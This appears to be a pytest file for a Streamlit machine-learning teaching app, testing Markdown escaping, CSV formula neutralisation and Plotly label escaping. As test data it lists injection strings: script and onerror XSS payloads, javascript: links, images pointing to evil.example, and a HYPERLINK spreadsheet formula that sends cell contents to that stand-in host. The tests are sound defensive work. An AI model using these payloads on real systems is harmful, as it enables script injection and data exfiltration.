"""Output safety: CSV exports neutralise formulas (OWASP's rule), and every user or file
string shown through Markdown is escaped by the one renderer, components/safe.py, tested
here with a corpus of injection strings."""
from __future__ import annotations

import base64
import csv
import io
import json
import re
import zlib
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from builder import compare
from builder.errors import LabError
from builder.settings import TrainSettings
from builder.store import Store
from components import safe, share
from components.compare.table import frame
from tests import tiny

ROOT = Path(__file__).resolve().parents[1]
CORPUS = [
    "![](http://evil.example/p)", "![x](http://evil.example/p.png \"t\")", "[click](javascript:alert(1))",
    "[a][1]\n\n[1]: http://evil.example", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
    "<a href='http://evil.example'>x</a>", "&lt;b&gt;entity&lt;/b&gt;", "http://evil.example/auto",
    "www.evil.example", "<http://evil.example>", "$\\frac{1}{0}$", "$$x^2$$", ":red[alarm]",
    ":material/warning: icon", ":smile:", ":blue-background[x]", "**bold** _it_ ~~gone~~ `code`",
    "# Heading", "title\n===", "- item\n+ item\n* item", "1. first", "> quoted", "| a | b |\n|---|---|",
    "```\nfenced\n```", "\\*escaped\\*", "trailing\\", "a\n\n---\n\nb", "x_train, y_test",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(1+1)", "{{template}} ${var}", "%s %(x)s {0}",
    "[![img](http://evil.example/i.png)](http://evil.example)", "data:text/html;base64,PHNjcmlwdD4=",
    "한국어 이름 <b>굵게</b>", "tab\there", "\u202eevil\u202c", "__init__ _x_ a_b_", "   1) one",
    "user@evil.example", "WWW.evil.example", "5*3*2", "line\n  # indented heading", "a  \nb",
]
ALLOWED_TOKENS = {"paragraph_open", "paragraph_close", "inline", "text", "softbreak", "hardbreak"}


def rendered(markdown: str) -> tuple[set[str], str]:
    """The token types markdown-it (CommonMark + GFM tables and strikethrough) makes of
    ``markdown``, and the text a reader would see (line breaks as spaces)."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}
    text = " ".join("".join(c.content if c.type == "text" else " " for c in t.children)
                    for t in tokens if t.type == "inline")
    return kinds, text.replace(safe.JOINER, "")  # invisible: the reader sees the same text


@pytest.mark.parametrize("hostile", CORPUS)
def test_escaped_text_renders_as_exactly_its_characters(hostile):
    kinds, text = rendered(safe.escape(hostile))
    assert kinds <= ALLOWED_TOKENS, kinds - ALLOWED_TOKENS
    assert " ".join(text.split()) == " ".join(hostile.replace("\\\n", "\\ ").split())


@pytest.mark.parametrize("hostile", CORPUS)
def test_nothing_streamlit_or_katex_would_interpret_survives(hostile):
    """Beyond CommonMark: math ($) and directives (:name[…]) need an unescaped ``$`` or
    bracket; GFM autolinks, emoji and icons are matched in the resolved text, so a joiner
    must break every ``:x``, ``://``, ``www.`` and ``@``."""
    out = safe.escape(hostile)
    assert not re.search(r"(?<!\\)[$\[\]<>]", out)
    assert not re.search(r"(:|@)(?!\u2060)(?=[\w/])|www\.|@(?!\u2060)", out, re.IGNORECASE)


@pytest.mark.parametrize("plain", ["mnist-cnn", "x_train, y_test", "try 0.1 (or less): ok",
                                   "layer 3 (Dense)", "run 7 · 3k img"])
def test_harmless_punctuation_is_left_alone(plain):
    """The Markdown source reads like the text, so it can be compared as it is."""
    assert safe.escape(plain) == plain


def test_a_lab_error_escapes_its_values_but_reads_the_same():
    error = LabError("file_missing", path="![](http://evil.example/p)")
    kinds, text = rendered(safe.error(error, "en"))
    assert kinds <= ALLOWED_TOKENS and text == error.text("en")


def hostile_link(layer_type: str) -> str:
    doc = json.loads(tiny.model().to_json())
    doc["layers"][0]["type"] = layer_type
    packed = zlib.compress(json.dumps(doc).encode(), 9)
    return base64.urlsafe_b64encode(packed).rstrip(b"=").decode()


def test_an_unknown_layer_type_in_a_share_link_does_not_render_as_an_image():
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params[share.ARCH_PARAM] = hostile_link("![](http://evil.example/p)")
    at.run()
    errors = [e.value for e in at.error]
    assert any("share link cannot be opened" in e for e in errors), errors
    shown = next(e for e in errors if "share link" in e)
    kinds, text = rendered(shown)
    assert "image" not in kinds and "link_open" not in kinds
    assert "![](http://evil.example/p)" in text


# ---------------------------------------------------------------- CSV

@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx",
                                  '=HYPERLINK("http://evil.example/?"&A1,"x")'])
def test_csv_cells_that_start_a_formula_get_a_quote(cell):
    assert compare.csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "a=b", "", 3, -2.5, None, "한국어"])
def test_other_csv_cells_are_unchanged(cell):
    assert compare.csv_cell(cell) == cell


def test_the_run_history_csv_has_no_live_formula(tmp_path):
    store = Store.open(tmp_path / "runs.sqlite")
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    for hostile in (name, "@SUM(1+1)", "-2+3"):
        store.create_run(tiny.model(), "digits", TrainSettings(), name=hostile)
    rows = [compare.run_row(r) for r in store.runs()]
    exported = frame(rows).map(compare.csv_cell).to_csv(index=False)
    cells = [c for row in csv.reader(io.StringIO(exported)) for c in row]
    assert {"'" + name, "'@SUM(1+1)", "'-2+3"} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_every_csv_export_in_the_app_neutralises_its_cells():
    exports = [f"{p.relative_to(ROOT)}:{n}" for d in ("builder", "components", "pages")
               for p in (ROOT / d).rglob("*.py")
               for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
               if re.search(r"to_csv\(|csv\.writer\(", line) and "csv_cell" not in line]
    assert exports == []


# ---------------------------------------------------------------- the audit



def test_lab_error_and_run_error_texts_reach_markdown_only_escaped():
    """In components/ and pages/, an error's or problem's text is passed on only through
    safe.error / safe.escape (or to a helper that escapes it, named here), or on a line
    marked ``# not Markdown`` (a dataframe cell, which shows text as it is)."""
    allowed = {"components/safe.py", "components/share.py", "components/training/fetch.py",
               "components/canvas/view.py"}  # no Markdown: JSON to a file or to the canvas's textContent
    helpers = ("download_failure(", "st.button(")
    found = [f"{p.relative_to(ROOT)}:{n}: {line.strip()}" for d in ("components", "pages")
             for p in (ROOT / d).rglob("*.py") if str(p.relative_to(ROOT)) not in allowed
             for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
             if re.search(r"\.(text|error_text|message|hint|where)\((lang|language)\)", line)
             and "safe." not in line and not line.rstrip().endswith("# not Markdown")
             and not any(h in line for h in helpers)]
    assert found == []


def test_plotly_labels_show_run_and_class_names_as_typed(tmp_path):
    """Run names (a student's, on the teacher's chart) and a dataset's class names reach
    Plotly escaped: its legend, hover text and ticks read a few HTML tags."""
    from components.compare import charts as compare_charts
    from components.training import charts as training_charts
    link = "<a href='http://evil.example'>answers</a>"
    shown = "&lt;a href='http://evil.example'&gt;answers&lt;/a&gt;"
    figure = training_charts.confusion_figure([[1, 0], [0, 1]], [link, "b&c"], "en")
    assert list(figure.layout.xaxis.ticktext) == [shown, "b&amp;c"]
    bars = training_charts.per_class_figure([0.5, 1.0], [link, "ok"], "en")
    assert list(bars.data[0].x) == [shown, "ok"]
    store = Store.open(tmp_path / "runs.sqlite")
    run_id = store.create_run(tiny.model(), "digits", TrainSettings(), name=link)
    labels = compare.run_labels(store.runs())
    lines = compare_charts.curves({}, store.runs(), labels, "epoch", "en")
    assert [trace.name for trace in lines.data][0] == safe.plot_text(labels[run_id])
    assert all("<a" not in (trace.name or "") for trace in lines.data)
